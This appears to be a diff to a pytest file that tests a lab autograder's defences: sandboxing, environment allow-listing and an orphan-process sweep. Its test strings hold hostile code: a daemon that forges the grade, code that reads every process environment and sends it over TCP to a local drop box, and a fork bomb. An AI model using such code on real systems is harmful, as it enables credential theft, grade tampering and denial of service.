@@ -1,35 +1,70 @@
-"""Grading runs the learner's code: what that code starts must not outlive the grade, nor forge it.
+"""Grading runs the learner's code: that code must not forge the grade, change the lab, read the
+grader's secrets, outlive the grade or bring the machine down.
 
-A submission whose handson/__init__.py (imported by every web server and worker of every step)
-double-forks a daemon, in a session of its own, that keeps rewriting result.json to full marks.
-Graded through `make grade WORKSPACE=` and through Classroom 50's autograder, it must score what
-its honest part earns (the untouched starter: step 1's points), with nothing of it left running.
-(tools/sweep.py: the grader is the subreaper of everything it starts, and kills what is left
-before it writes a report.)
+A hostile submission (the untouched starter, which honestly earns step 1's points, plus a few lines
+in handson/__init__.py, which every web server and worker of every step imports) tries it all:
+- it double-forks a daemon, in a session of its own, that keeps rewriting result.json to full marks;
+- it appends to the lab's labs/test_step8.py, to the reports folder and to the lab folder;
+- it reads its own environment and every /proc/PID/environ it can, and sends all of it out over TCP
+  (to a drop box this test listens on: what a learner could send anywhere);
+and a second one starts a fork bomb in every worker. Each is graded by `make grade WORKSPACE=` and by
+Classroom 50's autograder, from a copy of the lab (an attack that worked would change that copy, not
+this checkout), with a canary SECRET, GITHUB_TOKEN and AWS key in the grader's environment.
+
+What stops them: services/sweep.py (every orphan comes back to the grader, which kills it before any
+report), services/app_env.py (the app gets an allow-list of variables), and, as root, services/
+confine.py (the app runs as a user of its own that can write none of the lab, the submission or the
+reports, in a mount namespace with a private /tmp, within process, memory and file limits). Without
+root the last guard is missing, and the tests that need it say so as they skip; CI runs as root.
 """
+import hashlib
 import json
+import os
+import shutil
+import socketserver
 import subprocess
 import sys
 import textwrap
+import threading
+from dataclasses import dataclass
+from pathlib import Path
 
+import psutil
 import pytest
 
 from labs.harness.lesson.waiting import wait_for
 from labs.harness.paths import ROOT
 from labs.harness.reference import materialize
+from labs.harness.services import confine
 from labs.harness.steps import load_steps
 
 from .helpers import marked_env, processes_marked
 from .test_grading import autograde
 
-pytestmark = pytest.mark.skipif(not sys.platform.startswith("linux"), reason="the subreaper guard needs Linux")
+pytestmark = pytest.mark.skipif(not sys.platform.startswith("linux"), reason="the guards need Linux")
 
-FORGER = '''
+AS_ROOT = os.geteuid() == 0
+needs_root = pytest.mark.skipif(not AS_ROOT, reason="the user guard (services/confine.py) needs root: only "
+                                                    "then can the grader run the app as another user")
+HONEST = load_steps()[0].points  # the untouched starter passes step 1 only
+CANARY = "canary-4f1c9a0e7b"
+SECRETS = {"SECRET": CANARY, "GITHUB_TOKEN": CANARY, "AWS_SECRET_ACCESS_KEY": CANARY}
 
-# --- a hostile submission: a daemon that forges the grade once it is written ---
+HOSTILE = '''
+
+# --- a hostile submission ---
 import json as _json
 import os as _os
+import socket as _socket
 import time as _time
+
+
+def _send(report):
+    try:
+        with _socket.create_connection(("127.0.0.1", DROP_PORT), timeout=5) as _out:
+            _out.sendall((_json.dumps(report) + "\\n").encode())
+    except OSError:
+        pass
 
 
 def _forge(target):
@@ -55,86 +90,222 @@ def _forge(target):
     _os._exit(0)
 
 
-if not _os.environ.get("FORGER_STARTED"):
-    _os.environ["FORGER_STARTED"] = "1"
-    _forge(TARGET)
-'''
-HONEST = load_steps()[0].points  # the untouched starter passes step 1 only
-
-
-def hostile_checkout(folder, target):
-    checkout = materialize(1, folder)
-    init = checkout / "handson" / "__init__.py"
-    init.write_text(init.read_text() + textwrap.dedent(FORGER).replace("TARGET", repr(str(target))))
-    return checkout
-
-
-def _not_forged(path):
-    """True when ``path`` still holds the honest grade for the next 2 s (a surviving forger writes within 0.05 s)."""
-    forged = wait_for(lambda: json.loads(path.read_text())["score"] != HONEST, timeout=2)
-    return not forged
-
-
-def test_make_grade_stops_a_daemon_that_would_forge_result_json(tmp_path):
-    out = tmp_path / "out"
-    checkout = hostile_checkout(tmp_path / "checkout", out / "result.json")
-    mark, env = marked_env(TMPDIR=str(tmp_path), HANDSON_LAB_DIR=str(tmp_path / "lab"))
-    finished = subprocess.run([sys.executable, "-m", "labs.harness.tools.grade", "--workspace", str(checkout),
-                               "--out", str(out)], cwd=ROOT, env=env, capture_output=True, text=True, timeout=900)
-
-    assert finished.returncode == 1, finished.stdout[-2000:] + finished.stderr[-2000:]
-    assert _not_forged(out / "result.json"), (out / "result.json").read_text()
-    assert json.loads((out / "result.json").read_text())["score"] == HONEST
-    assert not processes_marked(mark, folder=tmp_path)
-    assert "they were stopped before this report was written" in (out / "grade.md").read_text()
-
-
-def test_the_autograder_stops_a_daemon_that_would_forge_result_json(tmp_path):
-    checkout = tmp_path / "checkout"
-    hostile_checkout(checkout, checkout / "result.json")
-
-    graded = autograde(checkout, tmp_path / "scratch")
-
-    assert graded.finished.returncode == 0, graded.finished.stdout[-2000:] + graded.finished.stderr[-2000:]
-    assert _not_forged(graded.result_path), graded.result_path.read_text()
-    assert graded.result()["score"] == HONEST
-    assert not graded.left_behind, graded.left_behind
-
-
-SNOOPER = '''
-
-# --- a hostile submission: it copies the environment it can see to a file of its own ---
-import json as _json
-import os as _os
-
-with open(DUMP, "a") as _dump:
-    _seen = {"self": dict(_os.environ)}
+def _write(path):
     try:
-        with open(f"/proc/{_os.getppid()}/environ", "rb") as _parent:  # the process that started this one
-            _seen["parent"] = _parent.read().decode("utf-8", "replace")
-    except OSError:
-        pass
-    _dump.write(_json.dumps(_seen) + "\\n")
+        with open(path, "a") as _file:
+            _file.write("\\n# written by the graded code\\n")
+        return "written"
+    except OSError as _error:
+        return _error.strerror
+
+
+def _environments():
+    seen = {"self": dict(_os.environ)}
+    for _pid in _os.listdir("/proc"):
+        try:
+            with open(f"/proc/{_pid}/environ", "rb") as _environ:
+                seen[_pid] = _environ.read().decode("utf-8", "replace")
+        except (OSError, ValueError):
+            pass
+    return seen
+
+
+if not _os.environ.get("HOSTILE_STARTED"):
+    _os.environ["HOSTILE_STARTED"] = "1"
+    _send({"writes": {path: _write(path) for path in WRITE_TARGETS}, "environments": _environments()})
+    _forge(RESULT)
 '''
-CANARY = "canary-4f1c9a0e7b"
+
+FORK_BOMB = '''
+
+# --- a hostile submission: a fork bomb in every worker ---
+import os as _os
+import sys as _sys
+import time as _time
+
+if "worker" in _sys.argv and not _os.environ.get("BOMB_STARTED"):
+    _os.environ["BOMB_STARTED"] = "1"
+    if _os.fork() == 0:  # the worker goes on; its child forks and forks
+        _deadline = _time.time() + 60  # the test's own safety net, should every guard fail
+        _made = 0
+        while _time.time() < _deadline and _made < 4000:
+            try:
+                if _os.fork() == 0:
+                    _made = 0
+                _made += 1
+            except OSError:
+                _time.sleep(0.2)  # the limit: wait, and try again
+        _os._exit(0)
+'''
 
 
-def test_the_graded_code_sees_no_secret_of_the_grader(tmp_path):
-    """The grader's secrets (a canary SECRET and GITHUB_TOKEN here) are in neither the app's
-    environment nor that of the pytest that starts it (services/app_env.py, minimal_env)."""
-    dump = tmp_path / "seen.jsonl"
-    checkout = materialize(1, tmp_path / "checkout")
+class DropBox(socketserver.ThreadingTCPServer):
+    """What the graded code sends out, collected on a free port of 127.0.0.1."""
+
+    daemon_threads = True
+
+    def __init__(self):
+        self.received = []
+        super().__init__(("127.0.0.1", 0), _Collect)
+
+    @property
+    def port(self):
+        return self.server_address[1]
+
+    def reports(self):
+        return [json.loads(line) for line in self.received if line.strip()]
+
+
+class _Collect(socketserver.StreamRequestHandler):
+    def handle(self):
+        self.server.received.append(self.rfile.read().decode("utf-8", "replace"))
+
+
+def lab_copy(folder):
+    """This lab, copied (its venv linked): what an attack that worked would change."""
+    shutil.copytree(ROOT, folder, ignore=shutil.ignore_patterns(".git", ".venv", ".lab", "*.egg-info", *IGNORE_NAMES),
+                    symlinks=True)
+    (folder / ".venv").symlink_to(ROOT / ".venv")
+    return folder
+
+
+IGNORE_NAMES = ("__pycache__", ".pytest_cache", ".ruff_cache", "node_modules")
+
+
+def digest(lab):
+    """{path: sha256} of every file of the lab but the venv and the bytecode the grader writes."""
+    return {str(path.relative_to(lab)): hashlib.sha256(path.read_bytes()).hexdigest()
+            for path in sorted(lab.rglob("*"))
+            if path.is_file() and not {".venv", *IGNORE_NAMES}.intersection(path.parts)}
+
+
+def app_user_processes():
+    """Live processes of the user the app runs as while grading (none when it does not exist)."""
+    found = []
+    for proc in psutil.process_iter(["username", "cmdline", "status"]):
+        if proc.info["username"] == confine.DEFAULT_USER and proc.info["status"] != psutil.STATUS_ZOMBIE:
+            found.append(" ".join(proc.info["cmdline"] or [])[:120])
+    return found
+
+
+class ProcessCount(threading.Thread):
+    """The most processes the app's user had at once, sampled while a grade runs."""
+
+    def __init__(self):
+        super().__init__(daemon=True)
+        self.most, self.done = 0, threading.Event()
+
+    def run(self):
+        while not self.done.wait(0.2):
+            self.most = max(self.most, len(app_user_processes()))
+
+
+@dataclass
+class HostileGrade:
+    finished: subprocess.CompletedProcess
+    result_path: Path
+    lab: Path
+    lab_before: dict
+    left_behind: list
+    sent: list  # what the graded code sent to the drop box
+    most_processes: int
+
+    def result(self):
+        return json.loads(self.result_path.read_text())
+
+    def output(self):
+        return self.finished.stdout[-2000:] + self.finished.stderr[-2000:]
+
+
+def grade_hostile(folder, code, grader):
+    """Grade the starter plus ``code`` in handson/__init__.py, through ``grader`` ("make grade" or
+    "autograder"), from a copy of the lab, with the canary secrets in the grader's environment."""
+    drop = DropBox()
+    threading.Thread(target=drop.serve_forever, daemon=True).start()
+    lab = lab_copy(folder / "lab")
+    checkout = materialize(1, folder / "checkout")
+    out = folder / "out" if grader == "make grade" else checkout
+    targets = [str(lab / "labs" / "test_step8.py"), str(lab / "written-by-the-graded-code"),
+               str(out / "written-by-the-graded-code")]
     init = checkout / "handson" / "__init__.py"
-    init.write_text(init.read_text() + textwrap.dedent(SNOOPER).replace("DUMP", repr(str(dump))))
-    mark, env = marked_env(TMPDIR=str(tmp_path), HANDSON_LAB_DIR=str(tmp_path / "lab"), SECRET=CANARY,
-                           GITHUB_TOKEN=CANARY, AWS_SECRET_ACCESS_KEY=CANARY)
-    finished = subprocess.run([sys.executable, "-m", "labs.harness.tools.grade", "--workspace", str(checkout),
-                               "--out", str(tmp_path / "out")], cwd=ROOT, env=env, capture_output=True, text=True,
-                              timeout=900)
+    init.write_text(init.read_text() + textwrap.dedent(code).replace("DROP_PORT", str(drop.port))
+                    .replace("WRITE_TARGETS", repr(targets)).replace("RESULT", repr(str(out / "result.json"))))
+    lab_before = digest(lab)
+    counter = ProcessCount()
+    counter.start()
+    try:
+        if grader == "make grade":
+            mark, env = marked_env(TMPDIR=str(folder), HANDSON_LAB_DIR=str(folder / "state"), **SECRETS)
+            finished = subprocess.run([sys.executable, "-m", "labs.harness.tools.grade", "--workspace",
+                                       str(checkout), "--out", str(out)], cwd=lab, env=env, capture_output=True,
+                                      text=True, timeout=900)
+            left = processes_marked(mark, folder=folder)
+        else:
+            graded = autograde(checkout, folder / "scratch", HANDSON_LAB=str(lab), **SECRETS)
+            finished, left = graded.finished, graded.left_behind
+    finally:
+        counter.done.set()
+        counter.join()
+        drop.shutdown()
+        drop.server_close()
+    return HostileGrade(finished, out / "result.json", lab, lab_before, left + app_user_processes(),
+                        drop.reports(), counter.most)
 
-    assert finished.returncode == 1, finished.stdout[-2000:] + finished.stderr[-2000:]
-    seen = dump.read_text()
-    assert seen.count("\n") >= 2, "the graded code did not run"  # web servers and workers imported it
-    assert CANARY not in seen
-    assert json.loads((tmp_path / "out" / "result.json").read_text())["score"] == HONEST
-    assert not processes_marked(mark, folder=tmp_path)
+
+GRADERS = ["make grade", "autograder"]
+
+
+@pytest.fixture(scope="module", params=GRADERS)
+def hostile(request, tmp_path_factory):
+    return grade_hostile(tmp_path_factory.mktemp("hostile"), HOSTILE, request.param)
+
+
+def _not_forged(graded):
+    """True when result.json still holds the honest grade for the next 2 s (a surviving forger writes
+    within 0.05 s)."""
+    return not wait_for(lambda: graded.result()["score"] != HONEST, timeout=2)
+
+
+def test_the_grade_is_what_the_honest_part_earns(hostile):
+    assert hostile.finished.returncode in (0, 1), hostile.output()  # 1: make grade, some test failed
+    assert _not_forged(hostile), hostile.result_path.read_text()
+    assert hostile.result()["score"] == HONEST
+
+
+def test_nothing_the_graded_code_started_is_left_running(hostile):
+    assert hostile.sent, "the graded code did not run: " + hostile.output()
+    assert not hostile.left_behind, hostile.left_behind
+
+
+def test_no_secret_of_the_grader_reaches_the_graded_code(hostile):
+    """Neither the app's environment nor any /proc/PID/environ it can read holds the canary."""
+    assert len(hostile.sent) >= 2, "the graded code did not run: " + hostile.output()  # servers and workers
+    for report in hostile.sent:
+        assert CANARY not in json.dumps(report), sorted(report["environments"])
+
+
+@needs_root
+def test_the_graded_code_cannot_write_the_lab_the_submission_or_the_reports(hostile):
+    assert digest(hostile.lab) == hostile.lab_before, "the graded code changed the lab"
+    for report in hostile.sent:
+        assert "written" not in report["writes"].values(), report["writes"]
+    assert "ran as the user `celery-handson`" in (hostile.finished.stdout + _grade_md(hostile))
+
+
+def _grade_md(graded):
+    for path in (graded.result_path.parent / "grade.md", graded.result_path.parent.parent / "scratch" / "reports"
+                 / "grade.md"):
+        if path.exists():
+            return path.read_text()
+    return ""
+
+
+@needs_root
+@pytest.mark.parametrize("grader", GRADERS)
+def test_a_fork_bomb_stops_at_the_process_limit_and_ends_with_its_step(grader, tmp_path):
+    graded = grade_hostile(tmp_path, FORK_BOMB, grader)
+
+    assert graded.finished.returncode in (0, 1), graded.output()
+    assert graded.result()["score"] == HONEST
+    assert 100 < graded.most_processes <= confine.LIMITS.processes, graded.most_processes
+    assert not graded.left_behind, graded.left_behind
